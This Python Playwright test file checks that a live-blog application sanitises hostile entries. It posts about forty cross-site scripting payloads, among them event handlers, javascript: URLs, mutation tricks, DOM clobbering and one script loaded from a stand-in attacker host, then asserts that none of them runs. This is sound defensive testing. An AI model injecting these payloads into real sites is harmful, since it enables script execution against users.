"""Hostile entries: rendered by the server and inserted live, none runs, none logs an error.

Every vector calls ``alert`` (a dialog fails the test through the ``pages`` fixture) or sets
``window.pwned``. Bodies go through the core's sanitiser; text fields (headline, author,
captions, alt, credit) and media URLs are shown as text or set as properties.
"""

from __future__ import annotations

from typing import Any

from playwright.async_api import Page, expect

from tests.browser.kit import Newsroom, Pages

BODIES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    '<iframe src="javascript:alert(5)"></iframe>',
    '<a href="javascript:alert(6)">six</a>',
    '<a href="JaVaScRiPt:alert(7)">seven</a>',
    '<a href="&#106;avascript:alert(8)">eight</a>',
    '<a href="java&#x09;script:alert(9)">nine</a>',
    "<body onload=alert(10)>",
    '<div style="background:url(javascript:alert(11))">eleven</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(13)>">',
    '<object data="javascript:alert(14)"></object>',
    '<embed src="javascript:alert(15)">',
    '<form action="javascript:alert(16)"><button>sixteen</button></form>',
    "<input autofocus onfocus=alert(17)>",
    "<details open ontoggle=alert(18)><summary>x</summary></details>",
    "<video><source onerror=alert(19)></video>",
    "<audio src=x onerror=alert(20)></audio>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(21)">',
    '<base href="javascript:alert(22)//">',
    '<img src="data:image/svg+xml,<svg onload=alert(23)>">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=">twenty-four</a>',
    "<style>@import 'javascript:alert(25)';</style>",
    '"><script>alert(26)</script>',
    "<scr<script>ipt>alert(27)</scr</script>ipt>",
    "<template><script>alert(28)</script></template>",
    "<select><template shadowrootmode=open><img src=x onerror=alert(29)></template></select>",
    "<marquee onstart=alert(30)>thirty</marquee>",
    '<!--<img src="--><img src=x onerror=alert(31)//">',
    "<xmp><img src=x onerror=alert(32)></xmp>",
    "<img src=x:alert(33) onerror=eval(src)>",
    '<a href="  javascript:alert(34)">thirty-four</a>',
    '<svg><a xlink:href="javascript:alert(35)"><text x="20" y="20">35</text></a></svg>',
    '<p onclick="alert(36)" onmouseover="alert(36)">thirty-six</p>',
    "<img srcset=',,,,,x onerror=alert(37)'>",
    '<script src="https://evil.example/pwn.js"></script>',
    "<iframe srcdoc='<script>parent.pwned=true</script>'></iframe>",
    '<a href="#" id="liveblog">clobber</a><form id="timeline"></form>',
]

TEXT = "<img src=x onerror=alert(100)><script>alert(101)</script>"


def hostile_entries() -> list[dict[str, Any]]:
    entries: list[dict[str, Any]] = [{"body": body} for body in BODIES]
    entries.append(
        {
            "headline": "</script><script>alert(102)</script>" + TEXT,
            "author": '"><svg onload=alert(103)>',
            "body": "<p>text fields</p>",
            "labels": ["breaking", "key"],
            "media": [
                {
                    "url": 'https://img.example/x.jpg"onerror="alert(104)"',
                    "caption": "</figcaption><script>alert(105)</script>",
                    "credit": TEXT,
                    "alt": '" onerror="alert(106)',
                }
            ],
        }
    )
    return entries


async def _assert_harmless(page: Page) -> None:
    assert await page.evaluate("window.pwned") is None
    # Entry markup cannot take over the page's own elements.
    assert await page.evaluate("document.getElementById('liveblog').tagName") == "DIV"
    scripts = await page.locator("main script").count()
    assert scripts == 0


async def test_hostile_entries_rendered_by_the_server(
    server: str, newsroom: Newsroom, pages: Pages
) -> None:
    await newsroom.blog("hostile", "Hostile")
    for fields in hostile_entries():
        await newsroom.post("hostile", **fields)
    page, _ = await pages.open(f"{server}/blogs/hostile")
    await expect(page.locator("#timeline > .entry")).to_have_count(20)
    await page.locator("#load-older").click()
    await expect(page.locator("#timeline > .entry")).to_have_count(40)
    await page.locator("#load-older").click()
    await expect(page.locator("#timeline > .entry")).to_have_count(len(BODIES) + 1)
    await page.locator("#timeline > .entry").last.scroll_into_view_if_needed()
    await page.mouse.move(200, 300)
    await _assert_harmless(page)


async def test_hostile_entries_inserted_live(server: str, newsroom: Newsroom, pages: Pages) -> None:
    await newsroom.blog("hostile-live", "Hostile live")
    page, _ = await pages.open(f"{server}/blogs/hostile-live")
    entries = hostile_entries()
    for fields in entries:
        await newsroom.post("hostile-live", **fields)
    await expect(page.locator("#timeline > .entry")).to_have_count(len(entries))
    headline = page.locator("#timeline .entry__headline").first
    await expect(headline).to_have_text("</script><script>alert(102)</script>" + TEXT)
    await _assert_harmless(page)


async def test_the_watch_would_see_a_dialog_or_an_error(
    server: str, newsroom: Newsroom, pages: Pages
) -> None:
    """The tests above pass because nothing happened, not because nothing was watched."""
    await newsroom.blog("watched", "Watched")
    page, watch = await pages.open(f"{server}/blogs/watched")
    await page.evaluate("alert('a dialog')")  # returns once the watch dismissed it
    async with page.expect_console_message():
        await page.evaluate("console.error('an error')")
    async with page.expect_event("pageerror"):
        await page.evaluate("setTimeout(() => { throw new Error('uncaught') })")
    assert watch.dialogs == ["alert: a dialog"]
    assert watch.errors[0] == "an error"
    assert "uncaught" in watch.errors[1]
    watch.dialogs.clear()
    watch.errors.clear()
